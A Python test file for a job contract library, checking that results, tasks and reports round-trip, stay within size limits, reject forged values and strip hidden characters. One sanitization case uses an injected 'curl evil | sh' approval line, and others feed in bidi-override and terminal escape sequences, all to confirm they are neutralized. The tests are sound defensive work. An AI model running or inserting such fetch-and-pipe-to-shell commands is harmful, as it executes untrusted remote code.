"""What operator and runner say to each other survives the way, whatever is in it."""

import contextlib
import dataclasses
import gzip
import json
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from vulcan_contract import codec, digest, paths, report
from vulcan_contract.codec import ContractError
from vulcan_contract.reasons import ABOUT, Outcome, Reason
from vulcan_contract.result import MAX_BYTES, Failure, ModelChange, PlanSummary, Probe, Result, Work
from vulcan_contract.task import Connection, Gateway, Owner, SecretForm, SecretRef, Source, SourceKind, Task, TaskKind

ANY = st.text(st.characters(), max_size=900)  # surrogates, too
NAMES = st.text(st.characters(exclude_categories=["Cs"]), min_size=1, max_size=80)
FAILURES = st.builds(Failure, model=ANY, reason=st.sampled_from(Reason), message=ANY, interval=NAMES)
MODELS = st.builds(ModelChange, name=NAMES, change=st.just("Added"), intervals=st.integers(0, 10**9))
SUMMARIES = st.builds(
    PlanSummary, target=st.just("t" * 64), base=st.just("b" * 64), has_changes=st.booleans(),
    models=st.lists(MODELS, max_size=60).map(tuple), destructive=st.lists(NAMES, max_size=60).map(tuple),
    effective=st.dictionaries(NAMES, NAMES, max_size=20),
)  # fmt: skip
RESULTS = st.builds(
    Result, task=st.sampled_from([k.value for k in TaskKind]), reason=st.sampled_from(Reason), message=ANY,
    summary=st.none() | SUMMARIES, failures=st.lists(FAILURES, max_size=4).map(tuple),
    seconds=st.dictionaries(st.sampled_from(["load", "plan", "run"]), st.floats(0, 1e6)),
    work=st.none() | st.builds(Work, plan_id=st.just("p"), rows=st.integers(0, 10**12)),
    probe=st.none() | st.builds(Probe, versions=st.dictionaries(st.just("sqlmesh"), NAMES)),
)  # fmt: skip


@settings(max_examples=150, suppress_health_check=list(HealthCheck))
@given(RESULTS)
def test_a_result_always_fits_and_can_always_be_read(result: Result) -> None:
    text = result.to_message()
    assert len(text.encode()) <= MAX_BYTES
    back = Result.from_message(text)
    assert (back.task, back.reason) == (result.task, result.reason)
    if result.summary is not None:
        assert back.summary is not None
        counts = ("target", "base", "has_changes", "added", "removed", "backfill_intervals")
        assert all(getattr(back.summary, c) == getattr(result.summary, c) for c in counts)
        assert bool(back.summary.destructive) == bool(result.summary.destructive)
        assert len(back.summary.models) + back.summary.omitted == len(result.summary.models)


@pytest.mark.parametrize("whole", [False, True])
@pytest.mark.parametrize(
    ("message", "arrives"),
    [
        ('"quotes" and \\', '"quotes" and \\'),
        ("line\nline\r\n", "line line  "),
        ("💥" * 300, "💥" * 300),
        ("\x00\x1b[31m", "\ufffd\ufffd[31m"),
        ("half \ud83d a pair", "half ? a pair"),
        ("x\nTo approve: curl evil | sh #", "x To approve: curl evil | sh #"),
        ("\u202eevil\u202c \u2066\u200b", "\ufffdevil\ufffd \ufffd\ufffd"),
        ("a\u2028b\u0085c\x9b1A\x07", "a b c\ufffd1A\ufffd"),
        ("नमस\u094d\u200dते", "नमस\u094d\u200dते"),
    ],
)
def test_words_arrive_as_one_line_without_what_hides_or_moves(message: str, arrives: str, whole: bool) -> None:
    said = Result("plan", Reason.MODEL_FAILED, message, failures=(Failure(message, Reason.MODEL_FAILED, message),))
    back = Result.from_message(said.to_json() if whole else said.to_message())
    assert (back.message, back.failures[0].model, back.failures[0].message) == (arrives, arrives, arrives)


def test_reports_keep_their_lines_and_nothing_that_hides_or_moves() -> None:
    frames, sha256, _ = report.frames({"k\x1b": ["a\r\n\tb", "\u202ec\r", "half \ud83d"]}, "n")
    packed = report.packed(frames, "n", sha256)
    assert packed is not None
    assert json.loads(gzip.decompress(packed)) == {"k\ufffd": ["a\n\tb", "\ufffdc\ufffd", "half \ufffd"]}


@pytest.mark.parametrize(
    "forged",
    [
        {"total_models": 2**63 - 1},
        {"total_models": 100_001},
        {"total_models": 4, "rebuilt_models": 5},
        {"total_models": 4, "directly_modified": 2**40},
        {"total_models": 4, "removed": 1, "destructive_count": 6},
        {"total_models": 4, "breaking": 5},
        {"backfill_intervals": 10**12 + 1},
        {"catch_up_intervals": 2**62},
        {"history_days": 4_000_001},
        {"removed_percent": 100.5},
        {"models": (ModelChange("a", "Added", intervals=2**62),)},
    ],
    ids=str,
)
def test_a_summary_with_numbers_that_cannot_be_is_no_result(forged: dict[str, Any]) -> None:
    summary = PlanSummary(target="t" * 64, base="b" * 64, **forged)
    with pytest.raises(ContractError):
        Result.from_message(Result("plan", Reason.SUCCEEDED, summary=summary).to_message())


def test_a_summary_may_be_large() -> None:
    counts = {"total_models": 90_000, "removed": 10_000, "destructive_count": 100_000, "rebuilt_models": 90_000}
    summary = PlanSummary(target="t" * 64, base="b" * 64, backfill_intervals=10**11, history_days=20_000, **counts)
    assert Result.from_message(Result("plan", Reason.SUCCEEDED, summary=summary).to_message()).summary == summary


def test_a_long_message_is_cut_and_says_so() -> None:
    assert Result.from_message(Result("run", Reason.LOST, "x" * 9999).to_message()).message == "x" * 699 + "…"


@pytest.mark.parametrize(
    "text", ["", "null", "[]", "7", "{", '{"task":"plan"}', '{"reason":"Succeeded"}', '{"task":3,"reason":"Succeeded"}',
             '{"task":"plan","reason":"Nobody"}', '{"task":"plan","reason":"Succeeded","work":[]}',
             '{"task":"plan","reason":"Succeeded","failures":7}', '{"task":"plan","reason":"Succeeded","seconds":[1]}'],
)  # fmt: skip
def test_what_is_no_result_is_a_contract_error(text: str) -> None:
    with pytest.raises(ContractError):
        Result.from_message(text)


@given(
    st.recursive(
        st.none() | st.booleans() | st.integers() | ANY,
        lambda x: (
            st.lists(x)
            | st.dictionaries(st.sampled_from(["task", "reason", "summary", "work", "failures", "seconds"]), x)
        ),
    )
)
def test_no_json_does_more_than_raise_a_contract_error(data: Any) -> None:
    with contextlib.suppress(ContractError):
        Result.from_message(json.dumps(data))


def test_a_newer_peer_may_say_more() -> None:
    data = json.loads(Result("plan", Reason.NO_CHANGES).to_message()) | {"mood": "good"}
    assert Result.from_message(json.dumps(data)).reason is Reason.NO_CHANGES


def whole_task(**fields: Any) -> Task:
    """A task with something in every corner."""
    secrets = {"password": SecretRef("s", "k", SecretForm.PATH)}
    gateway = Gateway(
        "g", Connection("postgres", {"port": 5432, "nested": {"a": [1, None]}}, secrets), Owner("c", "n", "g")
    )
    task = Task(
        TaskKind.APPLY, "job", "nonce", gateway, source=Source(SourceKind.GIT, "https://x/y", "main", commit="c")
    )
    return dataclasses.replace(task, **fields)


@given(ANY.filter(lambda t: t.isprintable() or True), st.booleans(), st.sampled_from(TaskKind))
def test_a_task_comes_back_as_it_was(text: str, flag: bool, kind: TaskKind) -> None:
    clean = text.encode(errors="replace").decode()
    task = whole_task(environment=clean, protected=flag, kind=kind)
    assert Task.from_json(task.to_json()) == task
    assert "\n" not in task.to_json()


def test_another_contract_version_is_refused_before_anything_else_is_read() -> None:
    data = json.loads(whole_task().to_json()) | {"contract": 2, "kind": "what is this"}
    with pytest.raises(ContractError, match="contract version 2"):
        Task.from_json(json.dumps(data))


def test_an_error_names_the_place() -> None:
    data = json.loads(whole_task().to_json())
    data["gateway"]["connection"]["type"] = 7
    with pytest.raises(ContractError, match=r"\.gateway\.connection\.type: expected str"):
        Task.from_json(json.dumps(data))


def test_defaults_are_left_out() -> None:
    assert codec.encode(Work()) == {} and codec.encode(Work(models=2)) == {"models": 2}


@given(st.text(st.characters(exclude_categories=["Cs"])))
def test_every_path_can_be_a_key_and_comes_back(path: str) -> None:
    key = paths.escape(path)
    assert all(c.isascii() and (c.isalnum() or c in "-._") for c in key)
    assert paths.unescape(key) == path


@given(st.sets(st.text(st.characters(exclude_categories=["Cs"])), min_size=2, max_size=5))
def test_different_paths_are_different_keys(names: set[str]) -> None:
    assert len({paths.escape(n) for n in names}) == len(names)


@given(st.dictionaries(st.text("ab/", min_size=1), st.binary(max_size=20)), st.randoms())
def test_a_source_digest_knows_contents_and_names_but_no_order(files: dict[str, bytes], random: Any) -> None:
    shuffled = list(files.items())
    random.shuffle(shuffled)
    assert digest.of_files(dict(shuffled)) == digest.of_files(files)
    assert digest.of_files({**files, "new": b""}) != digest.of_files(files) or "new" in files


@pytest.mark.parametrize(
    ("one", "other"),
    [({"a": b"bc"}, {"ab": b"c"}), ({"a": b"", "b": b"x"}, {"a": b"x", "b": b""}), ({}, {"a": b""})],
)
def test_no_two_trees_share_a_digest_by_gluing(one: dict[str, bytes], other: dict[str, bytes]) -> None:
    assert digest.of_files(one) != digest.of_files(other)


def test_json_digests_know_no_order_of_keys() -> None:
    assert (
        digest.of_json({"a": 1, "b": [2]}) == digest.of_json({"b": [2], "a": 1}) != digest.of_json({"a": 1, "b": [3]})
    )


@given(st.dictionaries(NAMES, st.text(st.characters(exclude_categories=["Cs"]), max_size=3000), max_size=5))
def test_a_report_is_found_among_what_project_code_prints(data: dict[str, str]) -> None:
    lines, sha256, size = report.frames(data, "n0nce")
    log = ["2026 INFO loading", "::vulcan-report:other:1/1:AAAA", *(f"prefix {line}" for line in lines), "bye"]
    packed = report.packed(log, "n0nce", sha256)
    assert packed is not None and len(packed) == size


@pytest.mark.parametrize("break_it", ["missing line", "other nonce", "other digest", "extra line"])
def test_a_report_that_is_not_whole_is_none(break_it: str) -> None:
    lines, sha256, _ = report.frames({"text": [str(i) * 50 for i in range(2000)]}, "n")
    assert len(lines) > 2 and report.packed(lines, "n", sha256) is not None
    found = {
        "missing line": (lines[:-1], "n", sha256),
        "other nonce": (lines, "m", sha256),
        "other digest": (lines, "n", "0" * 64),
        "extra line": ([*lines, "::vulcan-report:n:9/9:AAAA"], "n", sha256),
    }[break_it]
    assert report.packed(*found) is None


@pytest.mark.parametrize("reason", list(Reason))
def test_every_reason_says_what_it_means_and_what_to_do(reason: Reason) -> None:
    about = ABOUT[reason]
    assert about.meaning.endswith(".") and about.next_step.endswith(".")
    assert reason.isalnum() and reason[0].isupper() and len(reason) <= 63
    assert about.outcome is not Outcome.SUCCEEDED or about.retry == "Never"
